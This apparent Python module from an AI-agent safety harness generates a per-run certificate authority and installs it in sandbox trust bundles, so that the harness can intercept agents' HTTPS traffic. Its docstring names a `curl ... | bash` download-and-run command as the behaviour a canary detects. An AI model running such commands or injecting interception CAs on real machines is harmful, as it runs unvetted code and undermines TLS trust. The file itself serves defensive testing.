"""The simulated internet's TLS: a certificate authority per run, trusted inside every OS sandbox.

The harness makes (with `cryptography`) one CA and one leaf key per process. The sandbox trusts
the CA through a read-only CA bundle (the system bundle plus ours) at `CA_BUNDLE`, which the
environment names for every TLS library (SSL_CERT_FILE, CURL_CA_BUNDLE, REQUESTS_CA_BUNDLE...);
the local runtime also binds it over the system bundle path. The control server gets the CA's
private numbers and the leaf key over the authenticated control channel (never a file the
agent can read) and mints a leaf certificate for each host asked of its egress sink (stdlib
only: sandboxes/os/control.py `_Tls`), so `curl https://host/install.sh | bash` is answered
like plain HTTP and the downloaded-code canary sees the payload run.
"""

from __future__ import annotations

import atexit
import base64
import datetime as dt
import os
import tempfile
import threading
from pathlib import Path
from typing import Any

from agentsafe.errors import SandboxError

CA_BUNDLE = "/run/agentsafe/tls/ca-certificates.crt"  # inside the sandbox, read-only
SYSTEM_BUNDLE = "/etc/ssl/certs/ca-certificates.crt"
# Every TLS client's way to be told the bundle (curl, OpenSSL/python, requests, git, pip, node).
TLS_ENV = {k: CA_BUNDLE for k in ("SSL_CERT_FILE", "CURL_CA_BUNDLE", "REQUESTS_CA_BUNDLE",
                                  "GIT_SSL_CAINFO", "PIP_CERT", "NODE_EXTRA_CA_CERTS")}

_lock = threading.Lock()
_material: dict[str, Any] | None = None


def material() -> dict[str, Any]:
    """This run's CA and leaf key: {bundle_pem, control (the `tls` op's arguments), bundle_path
    (a host file holding the bundle, for bind mounts)}. Made once per process."""
    global _material
    with _lock:
        if _material is None:
            _material = _make()
        return _material


def _make() -> dict[str, Any]:
    try:
        from cryptography import x509
        from cryptography.hazmat.primitives import hashes, serialization
        from cryptography.hazmat.primitives.asymmetric import rsa
        from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
    except ImportError as e:  # pragma: no cover - a dependency (pyproject)
        raise SandboxError(f"the `cryptography` package is missing ({e}): make setup") from None
    now = dt.datetime.now(dt.UTC)
    ca_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    leaf_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, "agentsafe"),
                      x509.NameAttribute(NameOID.COMMON_NAME,
                                         f"agentsafe simulated internet CA {os.getpid()}")])
    ca_ski = x509.SubjectKeyIdentifier.from_public_key(ca_key.public_key())
    ca = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
          .public_key(ca_key.public_key()).serial_number(x509.random_serial_number())
          .not_valid_before(now - dt.timedelta(days=1)).not_valid_after(now + dt.timedelta(days=30))
          .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
          .add_extension(x509.KeyUsage(digital_signature=False, content_commitment=False,
                                       key_encipherment=False, data_encipherment=False,
                                       key_agreement=False, key_cert_sign=True, crl_sign=True,
                                       encipher_only=False, decipher_only=False), critical=True)
          .add_extension(ca_ski, critical=False)
          .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
          .sign(ca_key, hashes.SHA256()))
    ca_pem = ca.public_bytes(serialization.Encoding.PEM)
    try:
        system = Path(SYSTEM_BUNDLE).read_bytes()
    except OSError:
        system = b""
    bundle = system + (b"" if not system or system.endswith(b"\n") else b"\n") + ca_pem
    _sweep_stale()
    fd, path = tempfile.mkstemp(prefix=f"agentsafe-ca-{os.getpid()}-", suffix=".crt")
    with os.fdopen(fd, "wb") as f:
        f.write(bundle)
    os.chmod(path, 0o644)
    nums = ca_key.private_numbers()
    leaf_pub = leaf_key.public_key()
    control = {
        "issuer_b64": base64.b64encode(name.public_bytes()).decode(),
        "ca_n": format(nums.public_numbers.n, "x"), "ca_d": format(nums.d, "x"),
        "ca_ski_b64": base64.b64encode(ca_ski.digest).decode(),
        "leaf_key_pem": leaf_key.private_bytes(serialization.Encoding.PEM,
                                               serialization.PrivateFormat.PKCS8,
                                               serialization.NoEncryption()).decode(),
        "leaf_spki_b64": base64.b64encode(leaf_pub.public_bytes(
            serialization.Encoding.DER,
            serialization.PublicFormat.SubjectPublicKeyInfo)).decode(),
        "leaf_ski_b64": base64.b64encode(
            x509.SubjectKeyIdentifier.from_public_key(leaf_pub).digest).decode(),
    }
    return {"bundle_pem": bundle, "ca_pem": ca_pem, "bundle_path": path, "control": control}


def tls_request() -> dict[str, Any]:
    """The control server's `tls` request (the CA's signing numbers and the leaf key)."""
    return {"op": "tls", **material()["control"]}


__all__ = ["CA_BUNDLE", "TLS_ENV", "material", "tls_request"]


def _sweep_stale() -> None:
    """Remove the bundle files of harness processes that died without exiting (their pid is in
    the name), as the local runtime does with its work directories."""
    for p in Path(tempfile.gettempdir()).glob("agentsafe-ca-*-*.crt"):
        try:
            pid = int(p.name.split("-")[2])
        except (IndexError, ValueError):
            continue
        if pid != os.getpid() and not Path(f"/proc/{pid}").exists():
            try:
                p.unlink()
            except OSError:
                pass


def _cleanup() -> None:
    if _material is not None:
        try:
            os.unlink(_material["bundle_path"])
        except OSError:
            pass


atexit.register(_cleanup)
